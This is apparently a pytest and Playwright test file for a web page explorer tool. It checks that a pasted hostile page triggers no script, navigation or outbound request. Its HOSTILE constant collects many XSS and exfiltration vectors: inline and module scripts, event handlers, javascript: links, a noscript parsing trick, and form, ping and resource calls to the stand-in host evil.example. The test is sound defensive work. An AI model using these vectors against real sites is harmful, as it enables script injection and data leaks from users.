"""A hostile page in the explorer: nothing runs, nothing navigates, no request leaves."""

import contextlib
import json
import re
from collections.abc import Iterator
from typing import Any

import pytest
from playwright.sync_api import Browser, Error, expect

from tests.chromium import Network
from tests.server.browsing import PASTE, Explorer
from tests.server.serving import Service

EVIL = "http://evil.example"
RAN = "top.postMessage('ran','*');parent.postMessage({type:'ran'},'*');document.title='ran'"
HOSTILE = f"""<!DOCTYPE html><html manifest="{EVIL}/m"><head><base href="{EVIL}/" target="_top">
<meta http-equiv="refresh" content="0;url={EVIL}/refresh">
<meta http-equiv="Content-Security-Policy" content="script-src * 'unsafe-inline'">
<link rel="stylesheet" href="{EVIL}/s.css"><link rel="preload" as="image" href="{EVIL}/p.png">
<link rel="prefetch" href="{EVIL}/f"><link rel="dns-prefetch" href="//evil.example">
<style>@import url("{EVIL}/i.css"); @font-face {{ font-family: x; src: url("{EVIL}/x.woff") }}
* {{ font-family: x; background-image: url("{EVIL}/b.png") !important }}
.cover {{ position: fixed; inset: 0; z-index: 2147483647; width: 300vw; height: 300vh }}
pagelet-overlays {{ display: none !important }}</style>
<script>{RAN}</script><script src="{EVIL}/e.js"></script>
<script src="/static/explorer/main.js"></script>
<script type="module">import "{EVIL}/m.js"; {RAN}</script></head>
<body onload="{RAN}" onpointerdown="{RAN}" onmessage="{RAN}">
<nav><ul><li><a id="js" href="javascript:{RAN}">Home</a><li><a id="out" href="{EVIL}/out"
ping="{EVIL}/ping" target="_top">News</a><li><a href="{EVIL}/d" download>Files</a>
<li><a href="/v1/methods">Methods</a></ul></nav>
<img src="{EVIL}/x.png" srcset="{EVIL}/y.png 2x" onerror="{RAN}"><img src=x onerror="{RAN}">
<form id="form" action="{EVIL}/form" method="post" target="_top"><input name="dataset" value="1"
autofocus onfocus="{RAN}"><input id="childNodes">
<button id="send" formaction="{EVIL}/formaction">Send</button></form>
<iframe src="{EVIL}/frame"></iframe><iframe srcdoc="<script>{RAN}</script>"></iframe>
<object data="{EVIL}/o"></object><embed src="{EVIL}/e">
<video src="{EVIL}/v" poster="{EVIL}/w" autoplay></video>
<svg onload="{RAN}"><script>{RAN}</script><image href="{EVIL}/svg.png"/><use href="{EVIL}/u#a"/>
<a><animate attributeName="href" to="javascript:{RAN}" begin="0s"/><text y="20">go</text></a></svg>
<details open ontoggle="{RAN}"><summary>more</summary>text</details>
<template shadowrootmode="open"><script>{RAN}</script></template>
<noscript><p title="</noscript><img src=x onerror={RAN}>">none</p></noscript>
<p id="words">Words that are no menu, and quite a few of them, for a page must say something.</p>
<div class="cover">covered</div></body></html>"""
KEEP = "addEventListener('message', ({data}) => { (window.told ??= []).push(data?.type ?? data) })"


@pytest.fixture
def shown(window: Browser, service: Service) -> Iterator[Explorer]:
    context = window.new_context(viewport={"width": 1440, "height": 900})
    context.add_init_script(KEEP)
    opened = Explorer(context.new_page(), service.url).go()
    yield opened
    opened.close()


def harmless(shown: Explorer, elsewhere: Network) -> None:
    """Nothing ran, nobody was asked, and everything is where it was."""
    shown.tab.wait_for_timeout(300)  # what is set off may take a while
    own = shown.tab.url.partition("#")[0]
    frames = [frame.url for frame in shown.tab.frames[1:]]
    assert own == f"{shown.url}/"
    assert {f"{shown.url}/frame"} == set(frames)
    assert len(shown.tab.context.pages) == 1
    assert "ran" not in (shown.tab.evaluate("window.told") or [])
    assert shown.tab.title() != "ran"
    assert (shown.dialogs, shown.errors) == ([], [])
    assert [url for url in shown.asked if not url.startswith((own, "data:", "blob:"))] == []
    assert [url for url in shown.asked if "/v1/" in url and url.endswith("methods")][1:] == []
    assert not elsewhere.asked("evil.example")


def test_the_network_would_notice(window, elsewhere):
    tab = window.new_page()
    with contextlib.suppress(Error):  # it answers nothing
        tab.goto(f"{EVIL}/seen")
    tab.close()
    assert elsewhere.asked("evil.example")
    elsewhere.sent.clear()


def test_nothing_of_a_hostile_page_acts(shown, elsewhere):
    shown.paste(HOSTILE)
    expect(shown.frame.locator(".cover")).to_be_attached()
    harmless(shown, elsewhere)
    for target in ("#js", "#out", "#send", "svg text", "#words"):
        shown.frame.locator(target).dispatch_event("click")
    shown.frame.locator("#form").evaluate(
        "form => HTMLFormElement.prototype.requestSubmit.call(form)"
    )
    shown.frame.locator("#out").dispatch_event("auxclick", {"button": 1})
    harmless(shown, elsewhere)


def test_what_is_around_the_drawing_is_never_covered(shown, elsewhere):
    shown.paste(HOSTILE).method("menu")
    shown.move("min_score", 0.0)
    shown.counts("1 pagelet")
    shown.tab.click("#list li button")
    expect(shown.detail.locator("h2")).to_contain_text("menu")
    harmless(shown, elsewhere)


def test_exports_of_a_hostile_page_are_harmless(shown, elsewhere):
    shown.paste(HOSTILE)
    for wanted in ("json", "html", "markdown", "png"):
        assert shown.file(wanted).stat().st_size
    harmless(shown, elsewhere)


@pytest.mark.parametrize("led_away", [False, True], ids=["stays", "would leave"])
def test_the_policy_holds_where_the_cleaning_fails(shown, elsewhere, led_away):
    hostile = HOSTILE if led_away else re.sub(r"<meta[^>]*>|<iframe[^>]*>", "", HOSTILE)

    def raw(route: Any) -> None:
        answer = route.fetch()
        route.fulfill(response=answer, body=json.dumps(answer.json() | {"drawing": hostile}))

    shown.tab.route("**/v1/inspect", raw)
    shown.tab.evaluate(PASTE, "<p>The page is exchanged on its way.")
    expect(shown.tab).to_have_title("Untitled page · pagelet explorer")
    if not led_away:
        shown.drawn().frame.locator("#js").dispatch_event("click")
    shown.tab.wait_for_timeout(500)
    assert "ran" not in (shown.tab.evaluate("window.told") or [])
    assert shown.tab.url.startswith(f"{shown.url}/")
    assert (shown.tab.title(), shown.dialogs) == ("Untitled page · pagelet explorer", [])
    assert not elsewhere.asked("evil.example")
